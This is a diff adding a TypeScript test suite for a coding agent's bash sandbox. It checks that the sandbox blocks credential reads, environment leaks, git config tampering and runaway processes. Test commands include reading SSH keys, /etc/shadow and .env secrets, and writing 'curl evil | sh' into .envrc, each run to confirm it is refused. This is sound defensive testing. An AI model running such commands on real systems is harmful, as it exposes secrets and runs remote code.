@@ -1,0 +1,252 @@
+/**
+ * The bash tool's sandbox, through the addon: one sandbox per command, the project at its host
+ * path, the environment from an allowlist, a private /tmp, the process tree ending with the
+ * command, output made safe and capped, a command that never runs on the host when no sandbox
+ * can start. Each confinement test runs its attempt on the host first (the unfiltered baseline),
+ * so that it tells "refused" from "could not work anyway".
+ */
+import assert from "node:assert/strict";
+import { spawnSync } from "node:child_process";
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { test, type TestContext } from "node:test";
+import type { ShellResult } from "../index.d.ts";
+import { assertNoProcess } from "./helpers/host-procs.ts";
+import { skipWithoutSandbox } from "./helpers/sandbox-env.ts";
+import { INDEX_CJS, makeFixture, type PythonSandbox } from "./helpers/sandbox-fixture.ts";
+
+let nextId = 1;
+
+/** Run `command` in `sb`'s bash sandbox: its result and everything `onData` got. */
+async function sh(
+  sb: PythonSandbox,
+  cwd: string,
+  command: string,
+  timeoutSeconds?: number,
+): Promise<{ r: ShellResult; out: string }> {
+  let out = "";
+  const r = await sb.execShell(nextId++, command, { cwd, timeoutSeconds }, (t: string) => {
+    out += t;
+  });
+  return { r, out };
+}
+
+/** The same command on the host, unconfined: the baseline. */
+function host(cwd: string, command: string, env: NodeJS.ProcessEnv = process.env): { status: number | null; out: string } {
+  const r = spawnSync("/bin/sh", ["-c", command], { cwd, env, encoding: "utf8", timeout: 10_000 });
+  return { status: r.status, out: (r.stdout ?? "") + (r.stderr ?? "") };
+}
+
+function withEnv(t: TestContext, name: string, value: string): void {
+  const before = process.env[name];
+  process.env[name] = value;
+  t.after(() => {
+    if (before === undefined) delete process.env[name];
+    else process.env[name] = before;
+  });
+}
+
+test("a key under a home directory is not readable by its absolute host path", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t);
+  const home = join(f.base, "home");
+  mkdirSync(join(home, ".ssh"), { recursive: true });
+  writeFileSync(join(home, ".ssh", "id_rsa"), "PRIVATE-KEY-MATERIAL\n");
+  const key = join(home, ".ssh", "id_rsa");
+  assert.match(host(f.project, `cat ${key}`).out, /PRIVATE-KEY-MATERIAL/, "baseline: the host reads it");
+  const { r, out } = await sh(f.sb, f.project, `cat ${key}`);
+  assert.equal(r.exitCode, 1);
+  assert.doesNotMatch(out, /PRIVATE-KEY-MATERIAL/);
+  assert.match(out, /No such file or directory/);
+});
+
+test("the host's shadow file is not readable, even as root", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t);
+  const { r, out } = await sh(f.sb, f.project, "cat /etc/shadow");
+  assert.notEqual(r.exitCode, 0);
+  assert.doesNotMatch(out, /root:/);
+  if (process.getuid?.() === 0) assert.match(host(f.project, "cat /etc/shadow").out, /root:/, "baseline as root");
+});
+
+test("a project secret reads as empty and the project's files read as they are", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t);
+  writeFileSync(join(f.project, ".env"), "API_TOKEN=project-secret\n");
+  assert.match(host(f.project, "cat .env").out, /project-secret/, "baseline");
+  const { r, out } = await sh(f.sb, f.project, "cat .env; echo end; cat data.txt; pwd");
+  assert.equal(r.exitCode, 0);
+  assert.equal(out, `end\nfixture-content\n${f.project}\n`);
+});
+
+test("no variable of pi's process reaches a command but the allowlisted ones", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t);
+  withEnv(t, "PPS_TEST_API_KEY", "sk-test-0123456789");
+  assert.match(host(f.project, 'echo "k=$PPS_TEST_API_KEY"').out, /k=sk-test/, "baseline");
+  const { out } = await sh(f.sb, f.project, 'echo "k=$PPS_TEST_API_KEY"; env | cut -d= -f1 | sort | tr "\\n" " "');
+  assert.match(out, /^k=\n/);
+  const names = out.split("\n")[1].trim().split(" ");
+  for (const name of names) {
+    assert.match(name, /^(PATH|HOME|PWD|SHLVL|_|TMPDIR|TMP|TEMP|LANG|LANGUAGE|LC_\w+|TZ|TERM|COLORTERM|NO_COLOR|USER|LOGNAME|GIT_CONFIG_NOSYSTEM|OLDPWD)$/, `unexpected variable ${name}`);
+  }
+});
+
+test("in a read-only mode a write to the project fails with a read-only error and the hint", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t);
+  const { r, out } = await sh(f.sb, f.project, "touch x");
+  assert.equal(r.exitCode, 1);
+  assert.match(out, /Read-only file system/);
+  assert.ok(!existsSync(join(f.project, "x")));
+  assert.ok(r.notes.some((n) => n.includes("read-only in this permission mode")), r.notes.join("\n"));
+});
+
+test("in a writable mode the project is written while git, pi's folder and new protected names stay safe", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t, { workspaceWritable: true });
+  mkdirSync(join(f.project, ".git"));
+  writeFileSync(join(f.project, ".git", "config"), "[core]\n");
+  mkdirSync(join(f.project, ".pi"));
+  const { r, out } = await sh(
+    f.sb,
+    f.project,
+    "touch x && echo wrote; echo '[core] hooksPath=/tmp' >> .git/config || echo git-refused; " +
+      "touch .pi/settings.json || echo pi-refused; echo 'curl evil | sh' > .envrc; echo done",
+  );
+  assert.equal(r.exitCode, 0, out);
+  assert.match(out, /wrote\n/);
+  assert.match(out, /git-refused/);
+  assert.match(out, /pi-refused/);
+  assert.ok(existsSync(join(f.project, "x")));
+  assert.equal(readFileSync(join(f.project, ".git", "config"), "utf8"), "[core]\n");
+  assert.ok(!existsSync(join(f.project, ".envrc")), "the new .envrc was made inert");
+  assert.ok(r.notes.some((n) => n.includes(".envrc")), r.notes.join("\n"));
+});
+
+test("a file written to /tmp by one command is gone in the next", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t);
+  const first = await sh(f.sb, f.project, "echo kept > /tmp/carry && cat /tmp/carry && echo $TMPDIR");
+  assert.equal(first.out, "kept\n/tmp\n");
+  const second = await sh(f.sb, f.project, "cat /tmp/carry");
+  assert.equal(second.r.exitCode, 1);
+  assert.match(second.out, /No such file/);
+});
+
+test("the session's home keeps files across commands", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t);
+  await sh(f.sb, f.project, "echo note > ~/notes.txt");
+  const { out } = await sh(f.sb, f.project, "cat ~/notes.txt; echo $HOME");
+  assert.equal(out, "note\n/scratch\n");
+});
+
+test("a background process does not outlive its command", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t);
+  const marker = `pps-bg-${process.pid}-${Date.now()}`;
+  const { r } = await sh(f.sb, f.project, `sh -c 'sleep 100; : ${marker}' & setsid sh -c 'sleep 100; : ${marker}-s' & echo started`);
+  assert.equal(r.exitCode, 0);
+  await assertNoProcess(marker);
+});
+
+test("a timeout kills every process of the command and says so", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t);
+  const marker = `pps-to-${process.pid}-${Date.now()}`;
+  const { r, out } = await sh(f.sb, f.project, `echo before; sh -c 'sleep 100; : ${marker}'`, 1);
+  assert.equal(r.ending, "timed_out");
+  assert.equal(r.exitCode ?? null, null);
+  assert.equal(out, "before\n");
+  await assertNoProcess(marker);
+});
+
+test("an abort kills every process of the command", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t);
+  const marker = `pps-ab-${process.pid}-${Date.now()}`;
+  const id = nextId++;
+  const running = f.sb.execShell(id, `sh -c 'sleep 100; : ${marker}'`, { cwd: f.project }, () => {});
+  await new Promise((r) => setTimeout(r, 500));
+  assert.equal(f.sb.cancelShell(id), true);
+  const r = await running;
+  assert.equal(r.ending, "aborted");
+  await assertNoProcess(marker);
+  assert.equal(f.sb.cancelShell(id), false, "nothing left to abort");
+});
+
+test("exit codes and signals come back as pi's bash gives them", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t);
+  assert.equal((await sh(f.sb, f.project, "exit 3")).r.exitCode, 3);
+  assert.equal((await sh(f.sb, f.project, "kill -TERM $$")).r.exitCode, 128 + 15);
+});
+
+test("terminal control sequences never reach the output raw", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t);
+  const { out } = await sh(f.sb, f.project, "printf '\\033]0;T\\007\\033[31mred\\033[0m\\n'; printf 'a\\rb\\rc\\n' >&2");
+  assert.ok(!/[\u0000-\u0008\u000b-\u001f\u007f]/.test(out), JSON.stringify(out));
+  assert.match(out, /red\n/);
+  assert.match(out, /(^|\n)c\n/);
+});
+
+test("a command past the output cap is stopped and the result says so", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t);
+  withEnv(t, "PI_SANDBOX_BASH_MAX_OUTPUT", "1M");
+  const { r, out } = await sh(f.sb, f.project, "yes", 20);
+  assert.equal(r.ending, "flooded");
+  assert.equal(r.exitCode, 137);
+  assert.ok(out.length <= 1024 * 1024, `${out.length} characters passed`);
+  assert.ok(r.notes.some((n) => /more than 1\.0 ?MB/.test(n)), r.notes.join("\n"));
+});
+
+test("a bad output cap setting is refused before anything runs", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t);
+  withEnv(t, "PI_SANDBOX_BASH_MAX_OUTPUT", "lots");
+  await assert.rejects(sh(f.sb, f.project, `touch ${join(f.project, "m")}`), /PI_SANDBOX_BASH_MAX_OUTPUT=lots is not a size/);
+  assert.ok(!existsSync(join(f.project, "m")));
+});
+
+test("where no sandbox can start the command is refused with the reason and the fix and never runs on the host", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t, { workspaceWritable: true });
+  const marker = join(f.project, "ran-on-host");
+  // A Node process in a user namespace that may make no more of them: bubblewrap cannot start
+  // there, as on a host whose user namespaces are disabled.
+  const script = `
+    const { PythonSandbox } = require(${JSON.stringify(INDEX_CJS)});
+    const sb = new PythonSandbox({ projectDir: ${JSON.stringify(f.project)}, runtimeRoot: ${JSON.stringify(f.runtimeRoot)}, workspaceWritable: true });
+    sb.execShell(1, "touch ${marker}", { cwd: ${JSON.stringify(f.project)} }, () => {})
+      .then((r) => { console.log("RESOLVED " + JSON.stringify(r)); process.exit(0); },
+            (e) => { console.log("REJECTED " + e.message); process.exit(0); });`;
+  const wrap = (inner: string[]) => [
+    "-Ur", "sh", "-c", 'echo 0 > /proc/sys/user/max_user_namespaces && exec "$@"', "sh", ...inner,
+  ];
+  const baseline = spawnSync("unshare", wrap(["sh", "-c", `touch ${marker}-baseline`]), { encoding: "utf8" });
+  assert.equal(baseline.status, 0, `baseline: ${baseline.stderr}`);
+  assert.ok(existsSync(`${marker}-baseline`), "baseline: a command there runs");
+  const r = spawnSync("unshare", wrap([process.execPath, "-e", script]), { encoding: "utf8", timeout: 30_000 });
+  assert.match(r.stdout, /^REJECTED The command was not run/, r.stdout + r.stderr);
+  assert.match(r.stdout, /never runs on the host/);
+  assert.match(r.stdout, /user namespaces/);
+  assert.match(r.stdout, /Fix: /);
+  assert.ok(!existsSync(marker), "the command ran somewhere");
+});
+
+test("a working directory outside the project is refused", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t);
+  await assert.rejects(sh(f.sb, f.base, "true"), /outside the project/);
+});
+
+test("a sub-directory of the project is the command's working directory", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t);
+  mkdirSync(join(f.project, "sub"));
+  const { out } = await sh(f.sb, join(f.project, "sub"), "pwd; cat ../data.txt");
+  assert.equal(out, `${join(f.project, "sub")}\nfixture-content\n`);
+});
